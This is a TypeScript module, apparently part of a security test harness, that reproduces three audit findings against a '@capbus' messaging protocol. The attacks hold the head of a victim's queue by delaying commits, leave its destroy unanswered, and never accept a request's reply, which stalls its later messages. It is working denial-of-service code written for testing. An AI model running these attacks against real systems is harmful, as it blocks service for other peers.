/**
 * Time attacks (issue 17, findings 5-7) by a peer that holds the victim's `attack` node: keep the
 * head of the victim's queue, or leave one of its rounds unanswered, without tripping the
 * per-entry stage timeout.
 */
import { parseCapabilityUrl } from "@capbus/core";
import type { Frame } from "@capbus/wire";
import { type AttackContext, count, needUrl, pause } from "./context.js";
import { RawSession } from "./raw-session.js";

async function holder(
  ctx: AttackContext,
  answer?: (frame: Frame) => boolean,
): Promise<{ session: RawSession; node: number }> {
  const session = await RawSession.open(ctx.endpoint, answer ? { answer } : {});
  const node = await session.claim(parseCapabilityUrl(needUrl(ctx)).secret);
  return { session, node };
}

/**
 * Finding 5: stage a message every second, commit each 0.6 x the victim's stage timeout later
 * (42 s at the defaults, the 40 s): no entry is ever too old, but the queue's head is
 * always the attacker's.
 */
export async function headOfLine(ctx: AttackContext): Promise<void> {
  const { session, node } = await holder(ctx);
  const holdMs = Math.round(ctx.stageTimeoutMs * 0.6);
  ctx.figures.commitAfterMs = holdMs;
  const timers = new Set<NodeJS.Timeout>();
  while (!ctx.stopped() && !session.closed) {
    const event = session.nextEvent();
    const answer = session.answerTo(event);
    session.send({
      type: "stage",
      event,
      clock: session.clock,
      nodes: [node],
      payload: "hold",
      handles: [],
      receivers: [],
    });
    void answer.then((frame) => {
      if (frame?.type !== "propose") return count(ctx.figures, `refused ${frame?.type ?? "closed"}`);
      count(ctx.figures, "staged");
      const timer = setTimeout(() => {
        timers.delete(timer);
        session.send({ type: "commit", event, lamport: frame.lamport, dead: [] });
        count(ctx.figures, "committed");
      }, holdMs);
      timers.add(timer);
    });
    await pause(ctx, 1_000);
  }
  for (const timer of timers) clearTimeout(timer);
  ctx.figures.closed = session.closeText;
  session.drop();
}

/**
 * Finding 6: hold the `attack` node, tell the harness (which has the victim destroy it), and never
 * answer the victim's `destroy`. The victim's own staged destroy then waits for us.
 */
export async function destroyUnanswered(ctx: AttackContext): Promise<void> {
  const { session } = await holder(ctx, (frame) => frame.type !== "destroy");
  session.onFrame = (frame) => {
    if (frame.type === "destroy") ctx.figures.destroySeen = true;
  };
  ctx.figures.destroySeen = false;
  ctx.tell({ claimed: true });
  await ctx.stop;
  ctx.figures.closed = session.closeText;
  session.drop();
}

/**
 * Finding 7: one request to the victim (a message carrying a handle to our own node 1, committed
 * properly), whose reply (a fast `unicast` to us) we never `accept`. By R1 the victim then sends
 * no later fast unicast to anyone: replies to the prober wait too.
 */
export async function requestUnanswered(ctx: AttackContext): Promise<void> {
  const { session, node } = await holder(ctx, (frame) => frame.type !== "unicast");
  ctx.figures.replySeen = false;
  session.onFrame = (frame) => {
    if (frame.type === "unicast") ctx.figures.replySeen = true;
  };
  const event = session.nextEvent();
  const answer = session.answerTo(event);
  session.send({
    type: "stage",
    event,
    clock: session.clock,
    nodes: [node],
    payload: { $request: 1, body: "a request whose reply is never accepted" },
    handles: [{ owner: session.identity.id, node: 1 }],
    receivers: [session.remote],
  });
  const frame = await answer;
  if (frame?.type === "propose") {
    session.send({ type: "commit", event, lamport: frame.lamport, dead: [] });
    ctx.figures.requestCommitted = true;
  } else ctx.figures.requestCommitted = frame?.type ?? "closed";
  await ctx.stop;
  ctx.figures.closed = session.closeText;
  session.drop();
}
